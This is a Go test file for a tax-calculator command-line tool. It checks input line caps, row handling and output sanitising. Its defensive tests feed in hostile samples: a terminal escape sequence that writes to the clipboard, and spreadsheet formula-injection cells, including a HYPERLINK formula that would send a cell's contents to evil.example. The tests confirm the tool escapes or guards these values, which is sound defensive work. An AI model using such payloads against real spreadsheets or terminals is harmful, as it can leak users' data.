package cli

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/cntax/cntax/internal/date"
)

// runIn is run with any reader as standard input.
func runIn(t testing.TB, stdin io.Reader, args ...string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	home := t.TempDir()
	code := Main(args, Env{
		Stdin: stdin, Stdout: &out, Stderr: &errb,
		Getenv: func(k string) string {
			switch k {
			case "HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME":
				return home
			}
			return ""
		},
		Today: func() date.Date { return date.MustParse("2026-11-22") },
	})
	return out.String(), errb.String(), code
}

// endless is a CSV header followed by one line that never ends, like
// /dev/zero; it gives up (failing the test) after far more than a line may
// hold, so that a missing cap shows as a failure, not as a machine out of
// memory.
type endless struct {
	head []byte
	fill byte
	n    int
}

var errReadTooFar = errors.New("read far past the line cap")

func (e *endless) Read(p []byte) (int, error) {
	if len(e.head) > 0 {
		n := copy(p, e.head)
		e.head = e.head[n:]
		return n, nil
	}
	if e.n > 16<<20 {
		return 0, errReadTooFar
	}
	for i := range p {
		p[i] = e.fill
	}
	e.n += len(p)
	return len(p), nil
}

// Case 2: an endless or huge line is refused with its line number and the
// limit, after reading little more than the limit.
func TestBatchLineCap(t *testing.T) {
	for _, fill := range []byte{0, '1', '"'} {
		in := &endless{head: []byte("sales,input_tax\n100,1\n"), fill: fill}
		_, stderr, code := runIn(t, in, "batch", "vat.general", "-", "--lang", "en")
		if code != 2 || !strings.Contains(stderr, "line 3") || !strings.Contains(stderr, "1 MiB") {
			t.Errorf("fill %q: exit %d, %.300s", fill, code, stderr)
		}
		if in.n > maxLine+1<<16 {
			t.Errorf("fill %q: read %d bytes for a %d-byte cap", fill, in.n, maxLine)
		}
	}
	// A quoted cell may hold line breaks: many short lines make one row.
	var sb strings.Builder
	sb.WriteString("sales\n\"")
	for sb.Len() < 3<<20 {
		sb.WriteString(strings.Repeat("9", 1000) + "\n")
	}
	sb.WriteString("\"\n")
	_, stderr, code := run(t, sb.String(), "batch", "vat.general", "-", "--lang", "en")
	if code != 2 || !strings.Contains(stderr, "1 MiB") {
		t.Errorf("multi-line row: exit %d, %.300s", code, stderr)
	}
	// A cell longer than any value is refused by name, not echoed whole.
	long := strings.Repeat("1", maxCell+1)
	_, stderr, code = run(t, "sales\n"+long+"\n", "batch", "vat.general", "-", "--lang", "en")
	if code != 2 || !strings.Contains(stderr, "Row 2") || !strings.Contains(stderr, "sales") || strings.Contains(stderr, long) {
		t.Errorf("long cell: exit %d, %.300s", code, stderr)
	}
	_, stderr, code = run(t, long+"\n1\n", "batch", "vat.general", "-", "--lang", "en")
	if code != 2 || strings.Contains(stderr, long) {
		t.Errorf("long header: exit %d, %.300s", code, stderr)
	}
}

// Case 2, as a user would meet it: /dev/zero as the file.
func TestBatchDevZero(t *testing.T) {
	if _, err := os.Stat("/dev/zero"); err != nil {
		t.Skip("no /dev/zero")
	}
	_, stderr, code := run(t, "", "batch", "vat.general", "/dev/zero", "--lang", "en")
	if code != 2 || !strings.Contains(stderr, "line 1") {
		t.Errorf("exit %d, %.300s", code, stderr)
	}
}

// Case 6: a bad row after good ones leaves every good row whole, and the
// message says where it stopped and how many rows were written.
func TestBatchStopsOnWholeRow(t *testing.T) {
	for _, format := range []string{"csv", "json"} {
		var sb strings.Builder
		sb.WriteString("sales,input_tax\n")
		for i := 0; i < 1000; i++ {
			sb.WriteString("113000,8000\n")
		}
		sb.WriteString("abc,1\n113000,1\n")
		out, stderr, code := run(t, sb.String(), "batch", "vat.general", "-", "--format", format, "--lang", "en")
		if code != 2 || !strings.Contains(stderr, "Row 1002") || !strings.Contains(stderr, "1000 rows") {
			t.Errorf("%s: exit %d, %s", format, code, stderr)
		}
		if !strings.HasSuffix(out, "\n") {
			t.Errorf("%s: output ends inside a row: %q", format, out[max(len(out)-40, 0):])
		}
		lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
		want := 1000
		if format == "csv" {
			want++ // the header
		}
		if len(lines) != want {
			t.Errorf("%s: %d lines, want %d", format, len(lines), want)
		}
		if format == "csv" && lines[len(lines)-1] != "2026-11-22,113000.00,8000.00,14690.00,6690.00,0.00" {
			t.Errorf("last row: %q", lines[len(lines)-1])
		}
	}
}

// Case 8: a row with too few cells is refused, not filled with defaults.
func TestBatchShortRow(t *testing.T) {
	_, stderr, code := run(t, "sales,input_tax\n113000,8000\n113000\n", "batch", "vat.general", "-", "--lang", "en")
	if code != 2 || !strings.Contains(stderr, "Row 3") || !strings.Contains(stderr, "has 1 cell but") || !strings.Contains(stderr, "the 1 row before it was written") || !strings.Contains(stderr, "2 columns") {
		t.Errorf("exit %d, %s", code, stderr)
	}
	out, _, code := run(t, "sales,input_tax\n113000\n", "batch", "vat.general", "-", "--keep-going", "--lang", "en")
	if code != 2 || strings.Contains(out, "14690.00") {
		t.Errorf("keep-going computed a short row: %d %s", code, out)
	}
	// An empty cell is still a cell that takes its default.
	out, stderr, code = run(t, "sales,input_tax\n113000,\n", "batch", "vat.general", "-")
	if code != 0 || !strings.Contains(out, "14690.00") {
		t.Errorf("empty cell: %d %s %s", code, out, stderr)
	}
}

// controls lists the control bytes of s other than line breaks.
func controls(s string) string {
	var bad []string
	for i := 0; i < len(s); i++ {
		if c := s[i]; (c < 0x20 && c != '\n') || c == 0x7f {
			bad = append(bad, fmt.Sprintf("%q at %d", c, i))
		}
	}
	return strings.Join(bad, ", ")
}

// Case 10: no control sequence from outside reaches the terminal, from any
// command, and what was there is shown escaped.
func TestNoControlSequences(t *testing.T) {
	const osc = "\x1b]52;c;aGVsbG8=\x07"
	dir := t.TempDir()
	for _, tt := range []struct {
		name, stdin string
		args        []string
	}{
		{"header", "sales" + osc + "\n1\n", []string{"batch", "vat.general", "-"}},
		{"cell", "sales\n1" + osc + "\n", []string{"batch", "vat.general", "-"}},
		{"cell keep-going", "sales\n1" + osc + "\n", []string{"batch", "vat.general", "-", "--keep-going"}},
		{"cell keep-going json", "sales\n1" + osc + "\n", []string{"batch", "vat.general", "-", "--keep-going", "--format", "json"}},
		{"date cell", "date,sales\n2026" + osc + ",1\n", []string{"batch", "vat.general", "-", "--keep-going"}},
		{"batch id", "sales\n1\n", []string{"batch", "vat" + osc, "-"}},
		{"file name", "", []string{"batch", "vat.general", filepath.Join(dir, "x"+osc+".csv")}},
		{"value", "", []string{"calc", "vat.general", "sales=1" + osc}},
		{"name", "", []string{"calc", "vat.general", "sales=1", osc + "=1"}},
		{"argument", "", []string{"calc", "vat.general", osc}},
		{"id", "", []string{"calc", "vat.gen" + osc}},
		{"show id", "", []string{"show", osc}},
		{"date", "", []string{"calc", "vat.general", "sales=1", "--date", "2026" + osc}},
		{"lang", "", []string{"calc", "vat.general", "sales=1", "--lang", osc}},
		{"command", "", []string{"x" + osc}},
		{"flag", "", []string{"calc", "--x" + osc}},
		{"category", "", []string{"practice", osc, "--print"}},
		{"format", "", []string{"calc", "vat.general", "sales=1", "--format", osc}},
	} {
		for _, lang := range []string{"zh", "en", "both"} {
			out, stderr, code := run(t, tt.stdin, append(tt.args, "--lang", lang)...)
			if tt.name == "lang" {
				out, stderr, code = run(t, tt.stdin, tt.args...)
			}
			if code == 0 {
				t.Errorf("%s: accepted", tt.name)
			}
			if bad := controls(out + stderr); bad != "" {
				t.Errorf("%s (%s): control bytes %s in\n%s%s", tt.name, lang, bad, out, stderr)
			}
			if tt.name != "format" && !strings.Contains(out+stderr, `\x1b`) && !strings.Contains(out+stderr, `\u001b`) {
				t.Errorf("%s (%s): the escape is not shown:\n%s%s", tt.name, lang, out, stderr)
			}
		}
	}
}

// Case 11: with --keep-going a failed row's cells are copied out; one that
// a spreadsheet would run as a formula gets the OWASP guard, while numbers
// we computed (a refund is negative) stay numbers. (+1 and -1+2 are
// arithmetic an input may be written in, so the refused cells here are
// malformed arithmetic.)
func TestBatchFormulaInjection(t *testing.T) {
	cells := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "=1+1", "+1+", "-1+", "@SUM(A1)", "\t=1", "\r=1", "-abc"}
	in := "wages,withheld\n50000,120\n"
	for _, c := range cells {
		in += `"` + strings.ReplaceAll(c, `"`, `""`) + `",1` + "\n"
	}
	out, stderr, code := run(t, in, "batch", "iit.annual", "-", "--keep-going", "--date", "2025-03-01", "--lang", "en")
	if code != 2 {
		t.Fatalf("exit %d %s", code, stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2+len(cells) {
		t.Fatalf("%d records:\n%s", len(recs), out)
	}
	col := -1
	for i, h := range recs[0] {
		if h == "balance" {
			col = i
		}
	}
	if col < 0 {
		t.Fatalf("no balance column: %v", recs[0])
	}
	if got := recs[1][col]; got != "-120.00" {
		t.Errorf("the refund is written as %q, want -120.00", got)
	}
	for i, rec := range recs[2:] {
		for j, v := range rec {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("row %d cell %d (%q) would run as a formula: %q", i+3, j, cells[i], v)
			}
		}
		if want := "'" + cells[i]; cells[i][0] == '=' && rec[1] != want {
			t.Errorf("row %d: %q, want %q", i+3, rec[1], want)
		}
	}
}

// The cap's edge: a line of exactly maxLine bytes passes whole, one byte
// more fails on its own line (no row ends here: nothing calls next).
func TestLineLimitEdge(t *testing.T) {
	in := strings.Repeat("a", maxLine) + "\n" + strings.Repeat("b", maxLine+1) + "\n"
	l := &lineLimit{r: iotest.HalfReader(strings.NewReader(in)), line: 1}
	b, err := io.ReadAll(l)
	var le *lineTooLong
	if !errors.As(err, &le) || le.line != 2 {
		t.Fatalf("error %v", err)
	}
	if len(b) <= maxLine+1 || string(b[:maxLine+1]) != in[:maxLine+1] {
		t.Errorf("handed over %d bytes, want the first line whole and more", len(b))
	}
	l = &lineLimit{r: strings.NewReader(in[:maxLine+1]), line: 1}
	if b, err := io.ReadAll(l); err != nil || len(b) != maxLine+1 {
		t.Errorf("a line of exactly the limit: %d bytes, %v", len(b), err)
	}
}
